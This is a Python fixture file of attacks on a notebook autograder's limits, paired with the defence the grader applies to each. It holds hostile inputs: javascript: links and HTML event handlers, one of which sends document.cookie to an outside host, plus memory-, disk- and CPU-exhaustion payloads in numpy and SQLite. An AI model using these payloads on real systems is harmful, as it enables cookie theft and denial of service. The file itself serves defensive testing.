"""Attacks on the grader's own limits (issue "Trusted grading, second round").

``ATTACKS[assignment][name]`` is a dict like those of ``attacks.py``:
``answers`` maps an answer cell's grade_id to its new source (the others
keep the stub). One key is new: ``markdown``, markdown text to append to the
notebook as a new markdown cell (a student may add cells; its rendered HTML
must not be live in the feedback page nor in the formgrader).

What each one does and what the grader must do instead (tests/test_grader_limits.py
proves each limit on its own):

* 00 ``padded_strings``: q1's answer returns a numpy string array of one
  40,000-character string and 4,000 empty ones. The kernel sends 52 KB;
  numpy would pad it to 640 MB in the grader. The judge refuses it before
  allocating (``wire.MAX_DECODED``): q1 fails, "could not be read".
* 00 ``many_files``: q1's answer writes 30,000 small files in the working
  folder. At most ``staging.MAX_ENTRIES`` files and folders come back to
  autograded/ (and so to feedback/); the rest are reported in the grader log.
* 00 ``javascript_link``: a markdown ``[x](javascript:...)`` link, in q4's
  markdown answer and in a markdown cell of its own. The feedback page has
  no ``javascript:`` URL, no script, no event handler, and a
  Content-Security-Policy; the formgrader shows the link dead.
* 02 ``huge_row``: q1's query returns one row of 20 values of 19 MB (380 MB),
  each under SQLite's 20 MB value limit. The judge refuses it within
  ``sqlrun.MAX_RESULT`` (64 MB), the row being computed included.
* 02 ``slow_error``: q1's query is 72 KB of invalid SQL (36,000 words). Where
  it fails is found in about 16 compilations, not 36,000 (which took 99 s).
"""
from __future__ import annotations

PADDED_STRINGS = '''
import numpy as np

def format_progress(epoch, epochs, loss, lr, seconds):
    # 640 MB in this kernel (it may take 3 GB); 52 KB on the wire; 640 MB again if the grader pads it
    return np.array(["x" * 40_000] + [""] * 4_000)
'''

MANY_FILES = '''
import pathlib
for i in range(30_000):
    pathlib.Path(f"junk_{i:05d}.txt").write_text("x")

def format_progress(epoch, epochs, loss, lr, seconds):
    return f"[epoch {epoch}/{epochs}] loss={loss} lr={lr} time={seconds}"
'''

JAVASCRIPT_LINK = ("Click [here for the answer](javascript:alert(document.cookie)) or "
                   "[here](JaVa\tScRiPt:fetch('https://example.org/'+document.cookie)) "
                   "<a href=\"javascript:alert(1)\" onclick=\"alert(2)\">here</a> <img src=x onerror=alert(3)>")

HUGE_ROW = ('q1_premium_products = """SELECT '
            + ", ".join(f"replace(hex(zeroblob(9500000)), '0', 'x') AS c{i}" for i in range(20))
            + '"""\n')

SLOW_ERROR = 'q1_premium_products = "SELECT " + " , ".join(["1"] * 18_000) + " FROM FROM products"\n'

ATTACKS = {
    "00_orientation": {
        "padded_strings": dict(answers={"q1_format_metric": PADDED_STRINGS}),
        "many_files": dict(answers={"q1_format_metric": MANY_FILES}),
        "javascript_link": dict(answers={"q1_format_metric": "x = 1\n", "q4_hidden_tests": JAVASCRIPT_LINK},
                                markdown=JAVASCRIPT_LINK),
    },
    "02_sql": {
        "huge_row": dict(answers={"q1_premium_products": HUGE_ROW}),
        "slow_error": dict(answers={"q1_premium_products": SLOW_ERROR}),
    },
}
